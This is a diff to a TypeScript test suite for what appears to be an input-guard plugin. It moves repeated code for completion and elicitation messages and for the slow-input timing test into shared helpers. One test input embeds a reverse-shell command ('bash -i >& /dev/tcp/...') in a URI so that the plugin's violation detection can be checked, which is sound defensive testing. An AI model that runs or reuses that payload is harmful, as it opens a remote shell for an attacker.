@@ -2,6 +2,8 @@ import assert from "node:assert/strict";
 import { describe, test } from "node:test";
 import type { PluginResult } from "plugins-adapter/framework";
 import { newContext, newPlugin } from "plugins-adapter/testing";
+import { completionOf, elicitationAnswerOf } from "../../test/plugins/client-messages.ts";
+import { assertNoneSlow } from "../../test/plugins/slow-texts.ts";
 import definition from "./plugin.ts";
 
 type Answer = PluginResult<unknown> | undefined;
@@ -181,24 +183,8 @@ test("member names, prompts, URIs, completions and answers to elicitation", () =
     ask({}, { [bad]: 1 }),
     plugin.prompt_pre_fetch?.({ prompt_id: "p", args: { a: bad } }, newContext()),
     plugin.resource_pre_fetch?.({ uri: "sh://x?bash -i >& /dev/tcp/10.0.0.1/1", metadata: {} }, newContext()),
-    plugin.completion?.(
-      {
-        kind: "request",
-        method: "completion/complete",
-        from: "client",
-        params: { argument: { name: "a", value: bad } },
-      } as never,
-      newContext(),
-    ),
-    plugin.elicitation_response?.(
-      {
-        kind: "result",
-        method: "elicitation/create",
-        from: "client",
-        result: { action: "accept", content: { a: bad } },
-      } as never,
-      newContext(),
-    ),
+    plugin.completion?.(completionOf(bad), newContext()),
+    plugin.elicitation_response?.(elicitationAnswerOf(bad), newContext()),
   ];
   for (const answer of answers) {
     const { violation } = answer as PluginResult<unknown>;
@@ -230,24 +216,6 @@ test("no text makes it slow", () => {
     "\n",
     "x",
   ];
-  let seed = 11;
-  const next = () => {
-    seed = (Math.imul(seed, 1_103_515_245) + 12_345) >>> 0;
-    return seed / 2 ** 32;
-  };
   const plugin = newPlugin(definition, {});
-  for (let round = 0; round < 60; round++) {
-    const chosen = Array.from(
-      { length: 1 + Math.floor(next() * 3) },
-      () => parts[Math.floor(next() * parts.length)],
-    );
-    const q = chosen.join("").repeat(100_000).slice(0, 100_000);
-    const began = process.cpuUsage();
-    plugin.tool_pre_invoke?.({ name: "t", args: { q } }, newContext());
-    const used = process.cpuUsage(began);
-    assert.ok(
-      (used.user + used.system) / 1000 < 3000,
-      `${JSON.stringify(chosen)}: ${(used.user + used.system) / 1000} ms`,
-    );
-  }
+  assertNoneSlow(parts, 11, 3000, (q) => plugin.tool_pre_invoke?.({ name: "t", args: { q } }, newContext()));
 });
